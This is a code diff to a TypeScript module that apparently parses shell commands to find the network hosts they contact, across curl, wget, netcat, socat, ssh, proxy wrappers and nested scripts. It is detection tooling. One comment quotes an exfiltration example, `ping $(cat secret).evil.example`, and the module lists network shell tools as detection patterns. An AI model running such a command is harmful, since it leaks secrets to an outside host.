@@ -9,6 +9,8 @@ import { invocationOf, invocationsOf, readCommands, type Invocation, type Word }
  * no file name (`notes.md`, `setup.py`) becomes a host. A destination the reader cannot name (an
  * expansion `curl $HOST`, a list read from a file or from input) is reported as unread.
  */
+
+/** Where the hosts read go. */
 export interface HostSink {
   /** A host as WHATWG's URL parser normalises it, without a final dot. */
   add(host: string): void;
@@ -233,7 +235,10 @@ const DESTINATIONS: ReadonlyMap<string, Grammar> = new Map([
   ['invoke-restmethod', INVOKE_WEB],
 ]);
 
-/** Programs that run another one given after their options (`proxychains4 -q curl …`), and those options that take a value. */
+/**
+ * Programs that run another one given after their options (`proxychains4 -q curl …`), and which
+ * of those options take a value.
+ */
 const NETWORK_WRAPPERS: ReadonlyMap<string, string> = new Map([
   ['proxychains', 'f'],
   ['proxychains4', 'f'],
@@ -258,12 +263,14 @@ const POWERSHELL_SWITCHES = new Set([
   '-allowinsecureredirect',
 ]);
 
-/** Nested scripts (`bash -c "ssh host 'curl …'"`) are read this deep; a deeper one naming a network program is unread. */
+/**
+ * Nested scripts (`bash -c "ssh host 'curl …'"`) and wrappers are read this deep; a deeper one
+ * naming a network program is unread.
+ */
 const MAX_DEPTH = 4;
 
 /** A network program named in a text, quotes and escapes aside: only such a text is read as commands. */
-const NETWORK_WORD =
-  /(?<![\w.-])(?:curl|wget|nc|ncat|netcat|socat|telnet|s?ftp|ssh|scp|rsync|git|ping|dig|nslookup|iwr|irm|invoke-webrequest|invoke-restmethod)(?![\w-])/i;
+const NETWORK_WORD = new RegExp(`(?<![\\w.-])(?:${[...DESTINATIONS.keys()].join('|')})(?![\\w-])`, 'i');
 const QUOTING = /['"\\]/g;
 /** A word a shell would split again if it ran it: a script given to `bash -c`, `ssh host` or `eval`. */
 const SCRIPT_LIKE = /[\s;&|`$(<>]/;
@@ -291,8 +298,8 @@ function readScript(text: string, sink: HostSink, depth: number): void {
       if (SCRIPT_LIKE.test(script)) readScript(script, sink, depth + 1);
     }
   for (const inv of invocationsOf(commands)) {
-    // `ping $(cat secret).evil.example`: a command substituted into a word ends the words read;
-    // the rest of the destination is not.
+    // `ping $(cat secret).evil.example`: the reader ends a command where a substitution starts,
+    // so what follows it (the rest of the destination) is not among the command's words.
     const last = inv.command.words.at(-1) as Word;
     SUBSTITUTION_NEXT.lastIndex = last.end;
     readInvocation(inv, sink, depth, SUBSTITUTION_NEXT.test(text));
@@ -302,10 +309,11 @@ function readScript(text: string, sink: HostSink, depth: number): void {
 function readInvocation(inv: Invocation, sink: HostSink, depth: number, cut = false): void {
   const wrapperValued = NETWORK_WRAPPERS.get(inv.program);
   if (wrapperValued !== undefined) {
-    const words = afterOptions(inv.args, wrapperValued);
-    const wrapped = invocationOf({ ...inv.command, words });
-    if (wrapped !== null)
-      readInvocation({ ...wrapped, wrappers: [...inv.wrappers, ...wrapped.wrappers] }, sink, depth, cut);
+    const wrapped = invocationOf({ ...inv.command, words: afterOptions(inv.args, wrapperValued) });
+    if (wrapped === null) return;
+    // A wrapper's program is read as a script nested in it: a chain of them ends as deep scripts do.
+    if (depth >= MAX_DEPTH) sink.unread();
+    else readInvocation({ ...wrapped, wrappers: [...inv.wrappers, ...wrapped.wrappers] }, sink, depth + 1, cut);
     return;
   }
   const grammar = DESTINATIONS.get(inv.program);
@@ -354,7 +362,9 @@ function readArguments(inv: Invocation, grammar: Grammar, sink: HostSink, depth:
         operandHost(word, sink);
         if (grammar.remoteCommand === true && i + 1 < args.length) {
           const remote = invocationOf({ words: args.slice(i + 1), pipeIn: false, pipeOut: false });
-          if (remote !== null) readInvocation(remote, sink, depth + 1);
+          if (remote === null) return;
+          if (depth >= MAX_DEPTH) sink.unread();
+          else readInvocation(remote, sink, depth + 1);
           return;
         }
         break;
@@ -441,15 +451,14 @@ function hostsInValue(value: string, sink: HostSink): void {
     }
 }
 
+/** socat's address types that connect somewhere. */
+const CONNECTING_ADDRESS =
+  /^(?:tcp[46]?(?:-connect)?|udp[46]?(?:-connect|-sendto)?|sctp[46]?(?:-connect)?|openssl(?:-connect)?|ssl|socks[45]a?|proxy(?:-connect)?)$/i;
+
 /** A socat address that connects (`TCP:host:port`, `OPENSSL:host:port`, `SOCKS4A:proxy:host:port`). */
 function addressHost(word: string, sink: HostSink): void {
   const [type = '', ...rest] = word.split(':');
-  if (
-    !/^(?:tcp[46]?(?:-connect)?|udp[46]?(?:-connect|-sendto)?|sctp[46]?(?:-connect)?|openssl(?:-connect)?|ssl|socks4a?|socks5|proxy|proxy-connect)$/i.test(
-      type,
-    )
-  )
-    return;
+  if (!CONNECTING_ADDRESS.test(type)) return;
   for (const piece of rest) candidate(piece.split(',', 1)[0] as string, sink);
 }
 
